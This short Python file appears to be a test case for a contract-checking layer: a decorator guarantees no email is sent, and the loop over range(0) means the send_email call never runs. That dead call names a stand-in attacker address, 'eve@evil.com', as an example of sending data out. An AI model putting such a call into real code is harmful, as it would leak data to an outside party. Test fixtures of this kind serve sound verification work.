# proved: range(0) is empty
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    for i in range(0):
        send_email("eve@evil.com", "x")
